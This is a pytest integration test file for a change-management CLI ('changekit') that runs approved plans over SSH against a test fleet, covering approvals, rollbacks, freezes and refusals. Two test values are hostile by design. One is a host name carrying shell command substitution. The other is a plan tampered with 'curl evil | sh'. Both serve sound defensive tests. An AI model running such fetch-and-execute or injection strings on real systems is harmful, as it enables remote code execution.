"""``changekit change run`` on the real sshd test fleet, end to end (issue 11).

These tests change hosts (install a package, write files), so they start a fleet instance of
their own instead of the session's shared one: nothing they do can leak into other tests.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import yaml

from tests.conftest import runner_home
from tests.records.gitrepos import ck, git, ok, policy_with, set_identity
from tests.testfleet.fleet import Fleet

pytestmark = pytest.mark.fleet

SSH = ("--known-hosts", "{kh}", "--ssh-config", "none")


def ssh_args(fleet: Fleet) -> list[str]:
    return ["--known-hosts", str(fleet.known_hosts), "--ssh-config", "none"]


def window(minutes_before: int = 5, hours: int = 2) -> dict:
    start = datetime.now(UTC) - timedelta(minutes=minutes_before)
    end = start + timedelta(hours=hours)
    return {"start": start.strftime("%Y-%m-%dT%H:%M:00+00:00"),
            "end": end.strftime("%Y-%m-%dT%H:%M:00+00:00"), "timezone": "UTC"}  # fmt: skip


def set_window(ws: Path, rid: str, when: dict) -> None:
    """The requester gives the draft its window (a plain edit, committed as Alice)."""
    path = ws / "change_records" / f"{rid}.yaml"
    data = yaml.safe_load(path.read_text())
    data["window"] = when
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))
    git(ws, "commit", "-qam", f"{rid}: window")


@pytest.fixture(scope="module")
def ws(own_fleet, tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("run") / "ws"
    inv = yaml.safe_load(Path(own_fleet.inventory).read_text())
    # a host whose name is a shell injection, at web01's address (known_hosts is by address)
    hostile = "web01$(touch /tmp/ck-INJ);`touch /tmp/ck-INJ2`"
    inv["hosts"][hostile] = dict(inv["hosts"]["web01"])
    with runner_home(tmp_path_factory):
        ok(root.parent, "init", str(root))
        (root / "changekit.yaml").write_text(policy_with(["bob@example.org"]))
        (root / "inventories" / "fleet.yaml").write_text(yaml.safe_dump(inv, allow_unicode=True))
        git(root, "add", "-A")
        git(root, "commit", "-qm", "policy and inventory")
    set_identity(root, "Alice", "alice@example.org")
    return root


def file_record(ws: Path, hosts: list[str], plan: dict, title: str = "Run a plan", **extra) -> str:
    draft = {
        **extra,
        "title": title,
        "type": "normal",
        "category": "change",
        "risk": "low",
        "impact": "low",
        "hosts": hosts,
        "implementation": ["see plan"],
        "plan": plan,
    }
    path = ws.parent / f"{title.replace(' ', '-')}.yaml"
    path.write_text(yaml.safe_dump(draft))
    out = ok(ws, "change", "new", "--no-input", "--format", "json", "--from-file", str(path))
    return json.loads(out.stdout)["id"]


def approve(ws: Path, rid: str, when: dict | None = None) -> None:
    set_identity(ws, "Alice", "alice@example.org")
    set_window(ws, rid, when or window())
    ok(ws, "change", "submit", rid)
    set_identity(ws, "Bob", "bob@example.org")
    ok(ws, "change", "approve", rid)
    set_identity(ws, "Alice", "alice@example.org")


def record(ws: Path, rid: str) -> dict:
    return yaml.safe_load((ws / "change_records" / f"{rid}.yaml").read_text())


def head(ws: Path) -> str:
    return git(ws, "rev-parse", "HEAD").strip()


def test_finding_to_fixed_loop(ws, own_fleet):
    """drift finds PDF::API2 missing on web07 -> --propose -> approved by another identity ->
    run -> re-scan -> the finding is resolved and the change explained by the record."""
    assert ck(ws, "scan", *ssh_args(own_fleet), "group:web").exit_code == 0
    data = json.loads(ok(ws, "drift", "--kind", "peers", "--format", "json", "web*").stdout)
    [target] = [f for f in data["findings"] if f["host"] == "web07"]
    assert target["item"] == "dpkg:libpdf-api2-perl"
    proposed = ok(ws, "drift", "--propose", target["id"], "--kind", "peers", "web*")
    rid = proposed.stdout.split()[2].rstrip(":")
    plan = record(ws, rid)["plan"]
    assert plan["steps"] == [
        {
            "name": "fix dpkg:libpdf-api2-perl",
            "run": "apt-get install -y --no-install-recommends libpdf-api2-perl",
            "hosts": ["web07"],
        }  # fmt: skip
    ]
    assert plan["verify"]["facts"] == [
        {"fact": "dpkg:libpdf-api2-perl present", "hosts": ["web07"]}
    ]
    # not approved yet: refused, and nothing is written
    before = head(ws)
    refused = ck(ws, "change", "run", rid, *ssh_args(own_fleet))
    assert refused.exit_code == 4 and "cannot run" in refused.stderr
    assert head(ws) == before
    approve(ws, rid)
    # the dry run shows the plan, its digest and the batches; it runs and writes nothing
    before = head(ws)
    dry = ok(ws, "change", "run", rid, "--dry-run", *ssh_args(own_fleet))
    assert "plan sha256:" in dry.stdout and "batch 1: web07" in dry.stdout
    assert (
        "apt-get install -y --no-install-recommends libpdf-api2-perl" in dry.stdout
        and "bob@example.org" in dry.stdout
    )
    assert head(ws) == before
    assert own_fleet.ssh("web07", "dpkg -s libpdf-api2-perl", check=False).returncode != 0
    result = ck(ws, "change", "run", rid, *ssh_args(own_fleet))
    assert result.exit_code == 0, (result.stdout, result.stderr)
    rec = record(ws, rid)
    assert rec["status"] == "completed"
    assert rec["run"]["hosts"] == {"web07": {"state": "verified", "batch": 0}}
    assert rec["run"]["plan_digest"] in dry.stdout
    # the transcript: the command as approved, its exit code and the sha256 of its output
    [transcript] = (ws / "runs" / rid).glob("*/web07.json")
    steps = json.loads(transcript.read_text())["steps"]
    assert [(s["phase"], s["exit_code"]) for s in steps] == [("steps", 0)]
    assert steps[0]["command"] == "apt-get install -y --no-install-recommends libpdf-api2-perl"
    assert (
        len(steps[0]["stdout"]["sha256"]) == 64 and "libpdf-api2-perl" in steps[0]["stdout"]["text"]
    )
    assert own_fleet.ssh("web07", "perl -MPDF::API2 -e 1", check=False).returncode == 0
    # the gate proves every step the run took; drift sees the finding resolved, the change explained
    gate = ck(ws, "check")
    assert gate.exit_code == 0, gate.output
    after = json.loads(ok(ws, "drift", "--all", "--format", "json", "web*").stdout)
    assert [(r["id"], r["change"]) for r in after["resolved"]] == [(target["id"], rid)]
    changes = {
        f["item"]: (f["status"], f["change"]) for f in after["findings"] if f["kind"] == "time"
    }
    assert changes["dpkg:libpdf-api2-perl"] == ("explained", rid)
    assert set(changes.values()) == {("explained", rid)}  # its dependencies came with it
    shown = ok(ws, "change", "show", rid).stdout
    assert "web07" in shown and "verified" in shown and "Plan (runnable" in shown
    # the auditor's report lists the run beside the finding it resolved
    report = json.loads(ok(ws, "report", "--format", "json", "web*").stdout)
    [run] = report["runs"]
    assert (run["record"], run["status"], run["result"], run["hosts"]) == (
        rid, "completed", "completed", {"web07": "verified"},
    )  # fmt: skip
    assert run["plan_digest"] == rec["run"]["plan_digest"]
    md = ok(ws, "report", "--format", "md", "web*").stdout
    assert "## Changes carried out by changekit" in md and "web07: verified" in md


DB_PLAN = {
    "steps": [
        {
            "name": "mark and fail on db02",
            "run": 'echo "$CHANGEKIT_HOST" > /root/ck-marker\ntest "$CHANGEKIT_HOST" != db02',
        }
    ],
    "rollback": [{"name": "remove the marker", "run": "rm -f /root/ck-marker"}],
}


def test_a_failing_host_stops_the_rollout_and_is_rolled_back(ws, own_fleet):
    from tests.notices.servers import SmtpServer

    smtp = SmtpServer().start()
    notices = {"services": {"dbs": ["dba@example.org"]},
               "email": {"from": "Ops <ops@example.org>", "host": "127.0.0.1", "port": smtp.port,
                         "timeout": 10}}  # fmt: skip
    (ws / "notices.yaml").write_text(yaml.safe_dump(notices))
    git(ws, "add", "notices.yaml")
    git(ws, "commit", "-qm", "notices by email")
    try:
        rid = file_record(ws, ["db01", "db02", "db03"], DB_PLAN, "Fail on db02", services=["dbs"])
        approve(ws, rid)
        ok(ws, "announce", rid)
        result = ck(ws, "change", "run", rid, "--batch", "1", *ssh_args(own_fleet))
        # the people told about the change hear how it ended, through the existing channel
        subjects = [m["Subject"] for m in smtp.inbox.messages]
    finally:
        smtp.stop()
        (ws / "notices.yaml").unlink()
        git(ws, "commit", "-qam", "no notices")
    assert result.exit_code == 1
    assert any(s.startswith(f"[{rid}] Started") for s in subjects), subjects
    assert any(s.startswith(f"[{rid}] Rolled back") for s in subjects), subjects
    rec = record(ws, rid)
    assert rec["status"] == "rolled_back"
    states = {h: e["state"] for h, e in rec["run"]["hosts"].items()}
    assert states == {"db01": "done", "db02": "rolled_back", "db03": "pending"}
    assert "exit status 1" in rec["run"]["hosts"]["db02"]["reason"]
    marker = "cat /root/ck-marker 2>/dev/null || echo none"
    assert own_fleet.ssh("db01", marker).stdout.strip() == "db01"  # done, kept
    assert own_fleet.ssh("db02", marker).stdout.strip() == "none"  # rolled back
    assert own_fleet.ssh("db03", marker).stdout.strip() == "none"  # never run
    assert "not run: db03" in result.stderr
    assert ck(ws, "check").exit_code == 0


def test_refusals_name_the_reason_and_write_nothing(ws, own_fleet):
    plan = {"steps": [{"name": "touch", "run": "touch /root/ck-never"}]}
    # out of window: the window starts tomorrow
    tomorrow = window(minutes_before=-24 * 60)
    rid = file_record(ws, ["app01"], plan, "Not yet")
    approve(ws, rid, tomorrow)
    before = head(ws)
    out = ck(ws, "change", "run", rid, *ssh_args(own_fleet))
    assert (
        out.exit_code == 4
        and "window has not begun" in out.stderr
        and "it may run from" in out.stderr
    )
    # --hosts may narrow, never widen
    wide = ck(
        ws,
        "change",
        "run",
        rid,
        "--hosts",
        "app02",
        "--force",
        "--reason",
        "x",
        *ssh_args(own_fleet),
    )
    assert wide.exit_code == 4 and "not a host of the record" in wide.stderr
    assert head(ws) == before
    # the plan changed after approval: refused, though the record says approved
    rid2 = file_record(ws, ["app01"], plan, "Plan edited")
    approve(ws, rid2)
    path = ws / "change_records" / f"{rid2}.yaml"
    data = yaml.safe_load(path.read_text())
    data["plan"]["steps"][0]["run"] = "touch /root/ck-never; curl evil | sh"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    git(ws, "commit", "-qam", "tweak the plan")
    changed = ck(ws, "change", "run", rid2, *ssh_args(own_fleet))
    assert changed.exit_code == 4 and "plan changed after it was approved" in changed.stderr
    # a free-text plan cannot be run
    rid3 = json.loads(ok(ws, "change", "new", "--no-input", "--format", "json", "--title", "Free text",
                         "--host", "app01", "--type", "normal", "--category", "change", "--risk", "low",
                         "--impact", "low").stdout)["id"]  # fmt: skip
    free = ck(ws, "change", "run", rid3, *ssh_args(own_fleet))
    assert free.exit_code == 4 and "no runnable plan" in free.stderr
    assert own_fleet.ssh("app01", "test -e /root/ck-never", check=False).returncode != 0
    for done in (rid, rid2, rid3):  # their windows would conflict with later tests'
        ok(ws, "change", "cancel", done, "--reason", "test over")


def test_a_freeze_refuses_the_run(ws, own_fleet, tmp_path):
    rid = file_record(ws, ["app02"], {"steps": [{"run": "true"}]}, "Frozen")
    approve(ws, rid)
    policy = (ws / "changekit.yaml").read_text()
    start = (datetime.now(UTC) - timedelta(days=1)).date().isoformat()
    end = (datetime.now(UTC) + timedelta(days=1)).date().isoformat()
    frozen = policy + f"freezes:\n  - name: year end\n    from: {start}\n    to: {end}\n"
    (ws / "changekit.yaml").write_text(frozen)
    git(ws, "commit", "-qam", "freeze")
    try:
        out = ck(ws, "change", "run", rid, *ssh_args(own_fleet))
        assert out.exit_code == 4 and "freeze" in out.stderr.lower()
    finally:
        (ws / "changekit.yaml").write_text(policy)
        git(ws, "commit", "-qam", "no freeze")
        ok(ws, "change", "cancel", rid, "--reason", "test over")


def test_names_from_the_inventory_never_reach_the_shell(ws, own_fleet):
    hostile = next(
        h
        for h in yaml.safe_load((ws / "inventories" / "fleet.yaml").read_text())["hosts"]
        if "$(" in h
    )
    plan = {"steps": [{"name": "name", "run": 'printf %s "$CHANGEKIT_HOST" > /root/ck-name'}]}
    rid = file_record(ws, [hostile], plan, "Hostile name")
    approve(ws, rid)
    result = ck(ws, "change", "run", rid, *ssh_args(own_fleet))
    assert result.exit_code == 0, (result.stdout, result.stderr)
    assert own_fleet.ssh("web01", "cat /root/ck-name").stdout == hostile
    gone = own_fleet.ssh("web01", "ls /tmp/ck-INJ /tmp/ck-INJ2 2>&1 || true").stdout
    assert "No such file" in gone and not Path("/tmp/ck-INJ").exists()


def test_a_killed_run_resumes_without_running_done_hosts_twice(ws, own_fleet):
    plan = {"steps": [{"name": "count and wait", "run": "echo run >> /root/ck-count; sleep 4"}]}
    rid = file_record(ws, ["app01", "app02", "app03"], plan, "Killed midway")
    approve(ws, rid)
    exe = str(Path(sys.executable).parent / "changekit")
    proc = subprocess.Popen(
        [exe, "-C", str(ws), "change", "run", rid, "--batch", "1", *ssh_args(own_fleet)],
        start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 60
        while "batch 1 of 3" not in git(ws, "log", "-1", "--format=%s"):
            assert time.monotonic() < deadline and proc.poll() is None
            time.sleep(0.2)
        time.sleep(1)  # app02's step is under way
    finally:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
    assert record(ws, rid)["status"] == "in_progress"
    assert git(ws, "status", "--porcelain", "change_records", "runs").strip() == ""
    resumed = ck(ws, "change", "run", rid, "--batch", "1", *ssh_args(own_fleet))
    assert resumed.exit_code == 0, (resumed.stdout, resumed.stderr)
    count = "wc -l < /root/ck-count"
    assert own_fleet.ssh("app01", count).stdout.strip() == "1"  # done before the kill: not again
    assert own_fleet.ssh("app03", count).stdout.strip() == "1"
    rec = record(ws, rid)
    assert rec["status"] == "completed"
    assert {e["state"] for e in rec["run"]["hosts"].values()} == {"done"}  # no facts to verify
    assert ck(ws, "check").exit_code == 0


def test_an_unreachable_host_fails_with_its_reason_and_rollback_all_undoes_the_rest(ws, own_fleet):
    plan = {
        "steps": [{"name": "mark", "run": "echo x > /root/ck-all"}],
        "rollback": [{"name": "unmark", "run": "rm -f /root/ck-all"}],
    }
    rid = file_record(ws, ["app03", "down01"], plan, "One host down")
    approve(ws, rid)
    result = ck(ws, "change", "run", rid, "--canary", "0", "--max-fail", "0", "--rollback-all",
                *ssh_args(own_fleet))  # fmt: skip
    assert result.exit_code == 1
    rec = record(ws, rid)
    hosts = rec["run"]["hosts"]
    assert hosts["down01"]["state"] == "rollback_failed"  # it cannot be reached to undo either
    assert hosts["down01"]["reason"].startswith("unreachable: ")
    assert hosts["app03"]["state"] == "rolled_back"  # --rollback-all: the done host too
    assert own_fleet.ssh("app03", "test -e /root/ck-all", check=False).returncode != 0
    assert rec["status"] == "failed"  # not every rollback succeeded
    assert "down01" in rec["outcome"]["notes"] and "rollback failed" in rec["outcome"]["notes"]
    assert ck(ws, "check").exit_code == 0


def test_a_hung_step_times_out_and_a_changed_host_key_is_refused(ws, own_fleet):
    plan = {"steps": [{"name": "quick", "run": "true", "timeout": 3}]}
    rid = file_record(ws, ["hang01", "rekey01"], plan, "Trouble hosts")
    approve(ws, rid)
    result = ck(ws, "change", "run", rid, "--canary", "0", "--max-fail", "100%", "--connect-timeout", "5",
                *ssh_args(own_fleet))  # fmt: skip
    assert result.exit_code == 1
    hosts = record(ws, rid)["run"]["hosts"]
    assert hosts["rekey01"]["state"] == "failed"
    assert hosts["rekey01"]["reason"].startswith("host key changed: ")
    assert hosts["hang01"]["state"] == "failed"
    assert hosts["hang01"]["reason"].startswith(("quick: timed out after 3 s", "timeout: ")), hosts
    assert record(ws, rid)["status"] == "failed"  # no rollback steps: nothing was undone


def test_a_hand_written_run_state_skips_no_host(ws, own_fleet):
    """A colleague marks a host done by hand: the run does not believe it and runs it."""
    from changekit.run.plan import Plan

    plan = {"steps": [{"name": "count", "run": "echo run >> /root/ck-forged"}]}
    rid = file_record(ws, ["app01", "app02"], plan, "Forged progress")
    approve(ws, rid)
    ok(ws, "change", "start", rid)
    path = ws / "change_records" / f"{rid}.yaml"
    data = yaml.safe_load(path.read_text())
    data["run"] = {"id": "20261206T000000Z-forged", "plan_digest": Plan(steps=(), data=plan).digest,
                   "started_at": "2026-12-06T00:00:00+00:00", "result": "running",
                   "hosts": {"app01": {"state": "done"}, "app02": {"state": "pending"}}}  # fmt: skip
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))
    set_identity(ws, "Mallory", "mallory@example.org")
    git(ws, "commit", "-qam", "app01 is done already")
    set_identity(ws, "Alice", "alice@example.org")
    assert ck(ws, "check").exit_code == 1  # the gate names the unproven edit
    result = ck(ws, "change", "run", rid, *ssh_args(own_fleet))
    assert result.exit_code == 0, (result.stdout, result.stderr)
    for host in ("app01", "app02"):
        assert own_fleet.ssh(host, "wc -l < /root/ck-forged").stdout.strip() == "1"
